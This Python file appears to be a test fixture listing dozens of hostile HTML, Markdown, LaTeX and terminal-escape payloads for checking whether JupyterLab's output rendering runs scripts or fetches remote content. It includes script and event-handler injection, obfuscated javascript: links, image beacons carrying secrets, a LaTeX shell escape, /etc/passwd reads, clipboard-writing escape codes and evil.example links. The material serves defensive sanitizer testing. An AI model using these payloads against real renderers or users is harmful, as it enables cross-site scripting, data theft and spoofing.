"""What hostile web text can hold: everything that JupyterLab 4.6.6 was seen to run or fetch in an output, and more.

Each payload fetches from the listener under its own name, or adds its name to `window.__ran`, when it gets through.
"""

from collections.abc import Mapping


def payloads(address: str) -> Mapping[str, str]:
    """Return name → text for a listener at `address`."""

    def to(name: str) -> str:
        return f"{address}/{name}"

    def run(name: str) -> str:
        return f"(window.__ran=window.__ran||[]).push('{name}')"

    js = f"javascript:{run('odd_link')}"
    return {
        "img": f'<img src="{to("img")}">',
        "script": f"<script>{run('script')};fetch('{to('script')}')</script>",
        "onerror": f'<img src="x:y" onerror="{run("onerror")}">',
        "js_link": f'<a href="javascript:{run("js_link")}" target="_self">click</a>',
        "data_link": '<a href="data:text/html,<script>1</script>">data</a>',
        "iframe": f'<iframe src="{to("iframe")}"></iframe>',
        "style_attribute": f'<div style="background-image:url({to("style_attribute")});width:9px;height:9px">s</div>',
        "style_tag": f"<style>body{{background:url({to('style_tag')})}}</style>",
        "link_tag": f'<link rel="stylesheet" href="{to("link_tag")}">',
        "video": f'<video poster="{to("video")}" src="{to("video")}"></video>',
        "audio": f'<audio src="{to("audio")}" controls></audio>',
        "svg": f'<svg onload="{run("svg")}"><image href="{to("svg")}"/></svg>',
        "form": f'<form action="{to("form")}"><button>go</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url={to("meta")}">',
        "object": f'<object data="{to("object")}"></object>',
        "srcset": f'<img src="data:," srcset="{to("srcset")} 1x">',
        "ping": f'<a href="https://ok.example/" ping="{to("ping")}">p</a>',
        "command_button": '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">c</button>',
        "command_link": '<a href="#" data-commandlinker-command="notebook:run-all-cells">c</a>',
        "overlay": '<div id="main" style="position:fixed;top:0;left:0;width:99px;height:99px;z-index:9999">overlay</div>',
        "closing_tags": f"</pre></summary></details></table></div></style><script>{run('closing_tags')}</script>",
        "comment": f"<!-- --><img src='{to('comment')}'><!-- ",
        "attribute": f'" onmouseover="{run("attribute")}" style="position:fixed;inset:0" x="',
        # Markdown
        "md_image": f"![x]({to('md_image')}?q=secret)",
        "md_reference_image": f"![x][r]\n\n[r]: {to('md_reference_image')}",
        "md_nested_image": f"[![x]({to('md_nested_image')})](https://ok.example/)",
        "md_html_in_table": f"| a |\n|---|\n| <img src={to('md_html_in_table')}> |",
        "md_js_link": f"[x](javascript:{run('md_js_link')})",
        "md_js_entity": f"[x](&#106;avascript:{run('md_js_entity')})",
        "md_js_autolink": f"<javascript:{run('md_js_autolink')}>",
        "md_js_reference": f"[x][j]\n\n[j]: javascript:{run('md_js_reference')}",
        "md_data_link": "[d](data:text/html,hello)",
        "md_code_break": f"`a` http://ok.example/`<img src={to('md_code_break')}>`",
        "md_fence_break": f"```\n</code></pre><img src={to('md_fence_break')}>\n```",
        "md_newline_entity": f"x&#10;&#10;<img src={to('md_newline_entity')}>",
        "math_href": r"$\href{javascript:alert(1)}{x}$ and $$\style{background:red}{y}$$ \(\href{javascript:1}{z}\)",
        "math_dollars": "It costs $0.012 and then $1.340 in all.",
        # HTML that a filter of tags may miss: handlers that need no click, mutations, foreign content, unclosed tags
        "autofocus": f'<input autofocus onfocus="{run("autofocus")}"><select autofocus onfocus="{run("autofocus")}">',
        "toggle": f'<details open ontoggle="{run("toggle")}"><summary>s</summary>x</details>',
        "animate": f'<svg><animate onbegin="{run("animate")}" attributeName="x" dur="1s"></svg>',
        "mathml": f'<math><mtext><table><mglyph><style><img src="{to("mathml")}" onerror="{run("mathml")}">',
        "noscript": f'<noscript><p title="</noscript><img src={to("noscript")} onerror={run("noscript")}>">',
        "template": f'<template><img src="{to("template")}"></template><textarea><img src="{to("template")}">',
        "base": f'<base href="{to("base")}/"><a href="x">x</a><img src="x">',
        "import_style": f'<style>@import "{to("import_style")}";</style><style>@import url({to("import_style")});',
        "processing": f'<?xml-stylesheet href="{to("processing")}"?><![CDATA[<img src="{to("processing")}">]]>',
        "unclosed": f'<img src="{to("unclosed")}" <script>{run("unclosed")} <p title="',
        "plaintext": f'<plaintext><xmp><img src="{to("plaintext")}">',
        "picture": f'<picture><source srcset="{to("picture")}"><img></picture><input type=image src="{to("picture")}">',
        "entities": f"&lt;img src={to('entities')} onerror={run('entities')}&gt; &#x3c;script&#x3e;1&#60;/script>",
        "twice_escaped": f"&amp;lt;img src={to('twice_escaped')}&amp;gt;",
        # Links whose scheme is hidden, titles and labels that break out, images and links inside each other
        "js_spaces": f"[x](  {js}) [x](<{js}>) [x](<java\tscript:1>) [x](<\x01{js}>) [x](<java&Tab;script:1>)",
        "js_colon": "[x](javascript&colon;alert(1)) [x](javascript&#58;alert(1)) [x](javascript%3Aalert(1)) [x](JaVaScRiPt:1)",
        "js_newline": "[x](java\nscript:alert(1)) [x](<java\nscript:alert(1)>) [x](java&NewLine;script:alert(1))",
        "js_unicode": "[x](java\u200bscript:alert(1)) [x](\u202ejavascript:alert(1)) [x](j\u00e0vascript:alert(1))",
        "other_schemes": "[a](vbscript:1) [b](file:///etc/passwd) [c](blob:https://x/y) [d](data:text/html;base64,PHM+) "
        "[e](//evil.example/x) [f](/lab/api/settings) [g](../../x) [h](#main) [i](view-source:https://x.example)",
        "link_title": f'[x](https://ok.example "" onmouseover={run("link_title")} x="") [y](https://ok.example \'<img>\')',
        "link_quote": f'[x](https://ok.example/"onmouseover="{run("link_quote")}) <https://ok.example/"onclick="1>',
        "nested_links": f"[[x]({js})](https://ok.example) [a[b]({js})c](https://ok.example) [![x]({js})]({js})",
        "autolinks": f"<data:text/html,1> <vbscript:1> <javascript://%0a{run('autolinks')}> javascript:1 www.evil.example",
        "definitions": f"[x][a] [x][b] ![x][c] [d]\n\n[a]: {js}\n[b]: <data:text/html,1>\n[c]: {to('definitions')}\n"
        f"[d]: https://ok.example '\"onclick={run('definitions')}'\n[1]: {js}",
        "footnotes": f"a[^1] ^[<img src={to('footnotes')}>]\n\n[^1]: ![x]({to('footnotes')})\n[^2]: <img>",
        "user_info": "[x](https://good.example@evil.example/) [y](https://a:b@evil.example) [z](https://good.example\\@evil.example)",
        "mail": "[x](mailto:a@b.example?body=<img>) [y](mailto:javascript:alert(1)@b.example) <a@b.example>",
        # What some renderer of Markdown takes for more: mathematics, raw output, attributes, diagrams, templates
        "math_require": r"$\require{html}\href{javascript:alert(1)}{x}$ $$\class{jp-x}{x}\cssId{main}{y}\unicode{x}$$",
        "math_block": "\\[\\href{javascript:1}{x}\\] \\begin{align}\\href{javascript:1}{x}\\end{align}\n$$\\style{x}{y}\n$$",
        "math_fence": "```math\n\\href{javascript:1}{x}\n```\n```mermaid\ngraph TD; click A call alert()\n```",
        "latex_input": r"\input{/etc/passwd} \write18{id} \newcommand{\x}{\href{javascript:1}{y}} \x `\input{x}`{=latex}",
        "raw_output": f"`<img src={to('raw_output')}>`{{=html}}\n\n```{{=html}}\n<img src={to('raw_output')}>\n```",
        "attributes": f"[x]{{onclick={run('attributes')} style=position:fixed}}\n\n# T {{onclick=1}}\n\n::: {{#main}}\nx\n:::",
        "directives": f"```{{raw}} html\n<img src={to('directives')}>\n```\n{{raw-html}}`<img>` {{{{7*7}}}}",
        "html_in_lists": f"- <img src={to('html_in_lists')}>\n  1. > <script>1</script>\n\n| <b> | `\\|<img>` |\n|--|--|",
        "setext": f"<img src={to('setext')}>\n===\n\n    <img src={to('setext')}>\n\n<div>\n\n*x*\n\n</div>",
        "nested_quotes": ">" * 300 + f" <img src={to('nested_quotes')}>",
        "nested_lists": "- " * 300 + f"![x]({to('nested_lists')})",
        "deep_emphasis": "*a **b " * 200 + f"![x]({to('deep_emphasis')})" + " b** a*" * 200,
        "brackets": "[" * 300 + f"](javascript:1) ![{'[' * 300}]({to('brackets')})",
        # Characters that a terminal obeys, that turn the reading order round, or that hide a tag from a filter
        "ansi": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J\x1b]52;c;ZXY=\x07 \x9b31m \x1bP1|\x1b\\ \x9d0;t",
        "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200e\u200f\u061c user\u202e/moc.elpmaxe//:sptth",
        "null": f"<\x00img src={to('null')}> <im\x00g src={to('null')} onerror={run('null')}>",
        "surrogates": f"\ud83d<img src={to('surrogates')}>\udc00 ![x]({to('surrogates')}\ud800)",
        "zero_width": f"<im\u200bg src={to('zero_width')}> !\u200b[x]({to('zero_width')}) java\u00adscript:alert(1)",
        "separators": f"a\u2028![x]({to('separators')})\u2029<img src={to('separators')}>\x0b\x0c\x85\r- x\r\n<img>",
        "long_word": "w" * 3000 + "<b>" + "x" * 3000,
    }
